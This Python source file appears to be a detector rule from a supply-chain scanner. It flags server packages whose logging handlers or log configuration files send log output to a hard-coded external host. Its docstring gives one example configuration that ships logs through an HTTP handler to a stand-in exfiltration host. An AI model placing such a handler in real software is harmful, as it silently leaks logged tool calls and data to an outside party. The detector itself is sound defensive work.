"""What the server writes to its log is sent to somebody.

**What.** A log is set up so that what is written to it goes to a host that the package fixes: a handler of
Python's `logging` for HTTP, mail, syslog or a socket, or a transport of `winston`, in the code or in the data
from which the log is configured (`dictConfig` of a YAML or JSON file, `fileConfig` of an INI file).

**Why.** Logs hold what tools are called with and what they answer. No line of the code sends anything: a
few words in a data file do, and whoever reads only code does not see it.

**Example.** `handlers: {ship: {class: logging.handlers.HTTPHandler, host: logs.exfil.invalid, url: /in}}`

**Left alone.** Hosts from the environment; this machine and the network around it; a configuration that the
package only brings as an example; what `silent-copy` and `credential-exfiltration` tell already.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import TYPE_CHECKING, Any

import douane_signatures
from douane.detectors._catalogue import catalogue, encoded
from douane.detectors._flow import HOLE, State, program_of
from douane.detectors._guards import readable
from douane.detectors._handlers import is_vendored
from douane.detectors._marked import is_server
from douane.detectors._places import evidence_at, is_aside
from douane.detectors._settings import options
from douane.model import Confidence, Severity, Where
from douane.rules import Evidence, Rule

if TYPE_CHECKING:
    from douane.detectors._flow import Program
    from douane.syntax import Codebase

_DATA = "code/repeated.toml"
MAX_FILE = 64 * 1024
"""Bytes of a data file in which the configuration of a log is looked for."""
_NEAR = 600  # characters behind a handler in which its host stands
_HOST = re.compile(r"^(?:https?://)?([a-z0-9][\w.-]*\.[a-z]{2,})(?=[:/]|$)", re.IGNORECASE)


def look(codebase: Codebase) -> Iterator[Evidence]:
    """Yield where a log is sent to a host that the package fixes."""
    program = program_of(codebase)
    whole: dict[str, Any] = douane_signatures.table(_DATA)
    table = whole["logs"]
    paths = tuple(path for path in program.mentioning(encoded(table["words"])) if _is_own(path))
    if not paths or not is_server(program):
        return
    near = re.compile(whole["near"])
    for _, call in catalogue(_DATA, "log_handler").named_calls(program, paths):
        host = _host_of(program, call)
        if host and not near.search(host):
            yield _evidence(call, host)
    configures = re.compile(table["configures"].encode())
    for path in readable(program):
        if path in paths and program.holds(path, configures):
            yield from _written_out(program, path, table, near)
            yield from _in_data(codebase, table, near)
            return


def _is_own(path: str) -> bool:
    return not is_aside(path) and not is_vendored(path)


def _evidence(at: State, host: str) -> Evidence:
    return evidence_at(at, why=_why(host), severity=Severity.MEDIUM)


def _why(host: str) -> str:
    return f"what is written to the log is sent to {host}, which the package fixes"


def _host_of(program: Program, call: State) -> str:
    """Return the host that the handler *call* is made for; empty if the code does not fix it."""
    made = program.call(call)
    given = list(options(program, call, "host", "mailhost", "address"))
    given += [call.at(node) for node in made.arguments[:1]] if made is not None and not given else []
    for each in given:
        for leaf in program.leaves(each):
            inner = leaf.node.named_children[:1] if leaf.node.type == "tuple" else [leaf.node]
            for text in (text for node in inner for text in program.shapes(leaf.at(node))):
                match = _HOST.match(text)
                if match is not None and HOLE not in match[1]:
                    return match[1]
    return ""


def _written_out(
    program: Program, path: str, table: dict[str, str], near: re.Pattern[str]
) -> Iterator[Evidence]:
    """Yield handlers of a configuration that is written out in the code of *path*."""
    index = program.index(path)
    if index is None:
        return
    source = index.module.source.decode("utf-8", "replace")
    for start, host in _handlers(source, table, near):
        place = len(source[:start].encode())
        node = index.module.root.descendant_for_byte_range(place, place + 1)
        if node is not None and node.type.startswith("string"):
            yield _evidence(State(index, node), host)


def _in_data(codebase: Codebase, table: dict[str, str], near: re.Pattern[str]) -> Iterator[Evidence]:
    """Yield handlers of configurations that are data files of the package."""
    for path in sorted(codebase.tree):
        if re.search(table["data_files"], path) is None or not _is_own(path):
            continue
        content = codebase.tree[path]
        if len(content) > MAX_FILE or b"Handler" not in content:
            continue
        text = content.decode("utf-8", "replace")
        for start, host in _handlers(text, table, near):
            line = text.count("\n", 0, start) + 1
            yield Evidence(
                where=Where(path=path, line=line),
                excerpt=text.splitlines()[line - 1].strip()[:200],
                why=_why(host),
                severity=Severity.MEDIUM,
            )


def _handlers(text: str, table: dict[str, str], near: re.Pattern[str]) -> Iterator[tuple[int, str]]:
    """Yield (place, host) for each handler in *text* that sends to a host which stands beside it."""
    for match in re.finditer(table["handler"], text):
        beside = text[match.end() : match.end() + _NEAR]
        other = re.search(table["handler"], beside)
        found = re.search(table["host"], beside[: other.start()] if other is not None else beside)
        host = (found[1] or found[2] or "") if found is not None else ""
        if host and not near.search(host):
            yield match.start(), host


RULE = Rule(
    id="remote-logging",
    summary="what the server writes to its log is sent to a host that the package fixes",
    severity=Severity.MEDIUM,
    confidence=Confidence.MEDIUM,
    row="supply.code",
    remedy="Ask who keeps these logs; let the user set the host, and leave it out until then.",
    taxonomy=("MCP01:2025", "SAFE-T1505", "AML.T0057"),
    code=look,
)
